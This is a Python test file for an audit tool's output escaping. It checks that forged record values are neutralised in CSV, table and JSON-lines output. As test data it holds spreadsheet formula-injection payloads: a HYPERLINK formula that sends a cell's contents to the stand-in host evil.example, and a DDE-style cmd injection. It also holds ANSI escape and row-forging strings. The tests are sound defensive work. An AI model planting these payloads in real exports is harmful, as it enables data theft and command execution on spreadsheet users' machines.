"""What `sovgw audit` prints of values a record holds that a client (or a writer forging records)
chose: CSV cells a spreadsheet would run as formulas, control characters and bytes that are not
UTF-8 (they must not forge a table row, drive the terminal, or break JSON)."""

import csv
import io
import json
import os
import subprocess
import unittest

from test_audit_support import SOVGW, TAMPER, audit_case, run, sovgw, write_file

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\\tTAB",
            "\\rCR"]


class csv_test(audit_case):
    def setUp(self):
        super().setUp()
        self.append(3)
        for model in FORMULAS:
            run(TAMPER, self.db, "append-with", self.keys, "model", model, check=0)

    def test_cells_a_spreadsheet_reads_as_formulas_start_with_a_quote(self):
        out = subprocess.run([SOVGW, "audit", "query", "--db", self.db, "--format", "csv"], capture_output=True,
                             check=True).stdout.decode()
        rows = list(csv.reader(io.StringIO(out, newline="")))
        model = rows[0].index("model")
        self.assertEqual([row[model] for row in rows[4:]],
                         ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'+cmd|' /C calc'!A0", "'-2+3",
                          "'@SUM(1)", "\\tTAB", "\\rCR"])
        # Cells that do not start so are as they were: numbers, times, ordinary text.
        self.assertEqual(rows[1][0], "0")
        self.assertEqual(rows[1][model], "mistral-small")
        self.assertRegex(rows[1][1], r"^20\d\d-")
        # JSON lines keep the value as recorded.
        jsonl = sovgw("audit", "query", "--db", self.db, "--format", "jsonl", check=0).stdout
        self.assertIn('"model":"=HYPERLINK(', jsonl)


class control_characters_test(audit_case):
    # Values a writer may put in a record (the gateway itself refuses them from clients).
    VALUES = {"model": "gpt\\n  7  2026-01-01T00:00:00.000  forged-row", "path": "/v1/\\e[31mred\\e[0m",
              "tenant": "a\\0b", "request_id": "id-\\xff\\xfe-\\xe2\\x80\\xae-end"}

    def setUp(self):
        super().setUp()
        self.append(2)
        for field, value in self.VALUES.items():
            run(TAMPER, self.db, "append-with", self.keys, field, value, check=0)

    def output(self, *args):
        """stdout as bytes, which must be UTF-8 without terminal controls."""
        out = subprocess.run([SOVGW, *args], capture_output=True).stdout
        text = out.decode("utf-8")  # raises if not UTF-8
        for ch in text:
            self.assertTrue(ch in "\n" or (ord(ch) >= 0x20 and ord(ch) != 0x7F and not 0x80 <= ord(ch) <= 0x9F
                                          and ch not in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"),
                            f"{args}: {ch!r} in the output")
        return text

    def test_the_table_escapes_what_would_forge_a_row_or_drive_the_terminal(self):
        table = self.output("audit", "query", "--db", self.db)
        self.assertEqual(len(table.splitlines()), 1 + 6 + 1)  # header, 6 records, the count
        self.assertIn("gpt\\n  7  2026-01-01T00:00:00.000  forged-row", table)
        self.assertIn("/v1/\\x1b[31mred", self.output("audit", "show", "--db", self.db, "--seq", "3",
                                                     "--auditor-key", self.auditor_key))
        self.assertIn("a\\x00b", table)  # not cut at the NUL
        self.assertIn("id-\\xff\\xfe-\\u202e-end", table)

    def test_csv_escapes_what_would_forge_a_row_or_drive_the_terminal(self):
        # Before: the CSV held the raw line break, ESC, NUL, bytes that are not UTF-8 and U+202E.
        out = self.output("audit", "query", "--db", self.db, "--format", "csv")
        self.assertEqual(len(out.splitlines()), 1 + 6)  # header, 6 records
        rows = list(csv.reader(io.StringIO(out, newline="")))
        at = {name: rows[0].index(name) for name in ("model", "path", "tenant", "request_id")}
        self.assertEqual(rows[3][at["model"]], "gpt\\n  7  2026-01-01T00:00:00.000  forged-row")
        self.assertEqual(rows[4][at["path"]], "/v1/\\x1b[31mred\\x1b[0m")
        self.assertEqual(rows[5][at["tenant"]], "a\\x00b")
        self.assertEqual(rows[6][at["request_id"]], "id-\\xff\\xfe-\\u202e-end")
        # JSON lines keep them as recorded (JSON escapes).
        jsonl = self.output("audit", "query", "--db", self.db, "--format", "jsonl").splitlines()
        self.assertEqual(json.loads(jsonl[3])["path"], "/v1/\x1b[31mred\x1b[0m")

    def test_show_and_verify_proof_escape_the_record(self):
        for seq in ("2", "3", "4", "5"):
            proof = os.path.join(self.tmp, "p" + seq)
            write_file(proof, sovgw("audit", "prove", "--db", self.db, "--seq", seq, check=0).stdout)
            checked = self.output("audit", "verify-proof", proof, "--pubkey", self.pub)
            self.assertTrue(checked.startswith(f"OK: record {seq} is included"), checked)
        shown = self.output("audit", "show", "--db", self.db, "--seq", "4", "--auditor-key", self.auditor_key)
        self.assertIn("tenant a\\x00b", shown)

    def test_json_lines_are_always_json(self):
        lines = self.output("audit", "query", "--db", self.db, "--format", "jsonl").splitlines()
        records = [json.loads(line) for line in lines]
        self.assertEqual(records[2]["model"], "gpt\n  7  2026-01-01T00:00:00.000  forged-row")
        self.assertEqual(records[4]["tenant"], "a\0b")
        self.assertEqual(records[5]["request_id"], "id-\ufffd\ufffd-\u202e-end")  # bytes not UTF-8: U+FFFD


if __name__ == "__main__":
    unittest.main()
